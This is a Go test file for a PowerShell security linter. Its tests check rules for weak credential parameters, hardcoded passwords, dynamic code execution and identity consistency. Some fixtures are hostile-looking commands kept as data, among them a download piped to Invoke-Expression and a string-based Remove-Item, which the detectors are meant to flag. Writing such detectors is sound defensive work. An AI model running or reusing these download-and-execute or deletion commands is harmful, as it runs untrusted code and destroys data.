package rules

import (
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/scriptguard/scriptguard/internal/findings"
)

func TestWeakCredentialTypeParameters(t *testing.T) {
	rule := NewWeakCredentialTypeRule()

	tests := []struct {
		name     string
		source   string
		want     int
		severity findings.Severity
	}{
		{"plain string password", `param([string]$AdminPassword)`, 1, findings.SeverityCritical},
		{"untyped password", `param($ServicePassword)`, 1, findings.SeverityCritical},
		{"secure string is fine", `param([SecureString]$AdminPassword)`, 0, 0},
		{"credential object is fine", `param([PSCredential]$Credential)`, 0, 0},
		{"unrelated parameter", `param([string]$ServerName)`, 0, 0},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := checkSource(t, rule, tt.source)
			require.Len(t, got, tt.want)
			if tt.want > 0 {
				assert.Equal(t, tt.severity, got[0].Severity)
			}
		})
	}
}

func TestWeakCredentialTypeSecureValueFromLiteral(t *testing.T) {
	rule := NewWeakCredentialTypeRule()

	got := checkSource(t, rule, `$sec = ConvertTo-SecureString "P@ssw0rd" -AsPlainText -Force`)
	require.Len(t, got, 1)
	assert.Equal(t, findings.SeverityMedium, got[0].Severity)

	// Converting a variable is the legitimate pattern.
	got = checkSource(t, rule, `$sec = ConvertTo-SecureString $input -AsPlainText -Force`)
	assert.Empty(t, got)
}

func TestDynamicCodeExecution(t *testing.T) {
	rule := NewDynamicCodeRule()

	tests := []struct {
		name   string
		source string
		want   int
	}{
		{"invoke expression", `Invoke-Expression $cmd`, 1},
		{"iex alias", `iex $cmd`, 1},
		{"scriptblock create", `$sb = [ScriptBlock]::Create($code)`, 1},
		{"download piped to iex", `Invoke-WebRequest https://example.test/a.ps1 | Invoke-Expression`, 1},
		{"invoke command from string", `Invoke-Command -ScriptBlock "Remove-Item C:\tmp"`, 1},
		{"static invocation is fine", `Start-Service -Name adfssrv`, 0},
		{"invoke command with block", `Invoke-Command -ScriptBlock { Get-Service }`, 0},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := checkSource(t, rule, tt.source)
			require.Len(t, got, tt.want)
			if tt.want > 0 {
				assert.Equal(t, findings.SeverityCritical, got[0].Severity)
			}
		})
	}
}

func TestDynamicCodeDownloadMessage(t *testing.T) {
	rule := NewDynamicCodeRule()
	got := checkSource(t, rule, `Invoke-WebRequest https://example.test/a.ps1 | Invoke-Expression`)
	require.Len(t, got, 1)
	assert.Contains(t, got[0].Message, "downloaded")
}

func TestIdentityConsistencyMalformedSid(t *testing.T) {
	rule := NewIdentityConsistencyRule()

	got := checkSource(t, rule, `$sid = "S-1-XYZ"`)
	require.Len(t, got, 1)
	assert.Equal(t, "SG004", got[0].RuleID)
	assert.Equal(t, findings.SeverityHigh, got[0].Severity)

	assert.Empty(t, checkSource(t, rule, `$sid = "S-1-5-21-111-222-333-1001"`))
	assert.Empty(t, checkSource(t, rule, `$name = "Service-1"`))
}

func TestIdentityConsistencyDomainParameters(t *testing.T) {
	rule := NewIdentityConsistencyRule()

	unchecked := `param([string]$DomainName, [string]$DomainNetbios)
Install-Thing -Domain $DomainName`
	got := checkSource(t, rule, unchecked)
	require.Len(t, got, 1)
	assert.Contains(t, got[0].Message, "consistency check")

	checked := `param([string]$DomainName, [string]$DomainNetbios)
if ($DomainName -ne $DomainNetbios) { throw "domain mismatch" }`
	assert.Empty(t, checkSource(t, rule, checked))

	single := `param([string]$DomainName)`
	assert.Empty(t, checkSource(t, rule, single))
}

func TestDefaultsRegistrationOrder(t *testing.T) {
	reg := Defaults(nil)
	var ids []string
	for _, r := range reg.Rules() {
		ids = append(ids, r.ID())
	}
	assert.Equal(t, []string{"SG001", "SG002", "SG003", "SG004"}, ids)
}

func TestDefaultsHonorsEnabledList(t *testing.T) {
	reg := Defaults([]string{"SG003"})
	require.Len(t, reg.Rules(), 1)
	assert.Equal(t, "SG003", reg.Rules()[0].ID())
}

func TestRegistryIgnoresDuplicateIDs(t *testing.T) {
	reg := NewRegistry()
	reg.Register(NewDynamicCodeRule())
	reg.Register(NewDynamicCodeRule())
	assert.Len(t, reg.Rules(), 1)
}
